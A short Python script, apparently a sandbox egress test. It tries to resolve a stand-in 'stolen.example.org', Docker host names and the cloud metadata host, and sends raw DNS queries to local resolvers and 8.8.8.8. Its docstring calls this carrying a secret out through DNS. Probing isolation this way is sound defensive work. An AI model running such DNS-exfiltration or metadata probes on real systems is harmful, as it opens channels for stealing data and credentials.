"""Asks name servers, the engine's own included, to carry a secret out in a name."""

LOOT = "LOOT-NAME"
import socket

for name in (
    "example.org",
    "stolen.example.org",
    "host.docker.internal",
    "gateway.docker.internal",
    "metadata.google.internal",
):
    try:
        found = socket.getaddrinfo(name, 80)
    except OSError:
        continue
    raise RuntimeError(f"LOOT-NAME {found}")
for server in ("127.0.0.11", "127.0.0.53", "172.17.0.1", "8.8.8.8"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.settimeout(0.2)
            out.sendto(
                b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03org\x00\x00\x01\x00\x01",
                (server, 53),
            )
            out.recv(512)
    except OSError:
        continue
    raise RuntimeError(f"LOOT-NAME {server} answers")
